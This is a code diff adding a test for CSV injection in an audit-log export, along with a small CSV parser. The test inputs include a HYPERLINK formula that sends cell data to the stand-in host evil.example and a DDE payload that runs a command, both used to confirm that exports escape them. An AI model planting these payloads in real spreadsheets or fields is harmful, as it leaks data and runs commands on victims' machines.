@@ -62,6 +62,24 @@ for (const backend of backends) {
       assert.equal(rows.length, lines.length + 1);
     });
 
+    it('exports names that look like spreadsheet formulas as text (CSV injection)', async () => {
+      const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
+      for (const username of hostile) {
+        assert.equal((await s.api('POST', '/api/v1/login', { body: { username, password: 'wrong-password' } })).status, 401);
+      }
+      const csv = await s.api('GET', '/api/v1/audit/export?format=csv&resource=sessions&outcome=failure', { token: admin });
+      assert.equal(csv.status, 200);
+      const rows = parseCsv(String(csv.body));
+      const actor = rows[0].indexOf('actor');
+      const name = rows[0].indexOf('name');
+      for (const username of hostile) {
+        const row = rows.find((r) => r[actor] === `'${username}`);
+        assert.ok(row, `a row for ${JSON.stringify(username)}, as text: ${String(csv.body)}`);
+        assert.equal(row[name], `'${username}`);
+      }
+      for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
+    });
+
     it('verifies an intact chain', async () => {
       const v = await s.api('GET', '/api/v1/audit/verify', { token: admin });
       assert.equal(v.body.ok, true);
@@ -108,4 +126,21 @@ for (const backend of backends) {
       assert.equal(v.body.ok, true, JSON.stringify(v.body));
     });
   });
+}
+
+/** Splits RFC 4180 CSV text into rows of cells (quoted cells may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
+  }
+  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
+  return rows;
 }
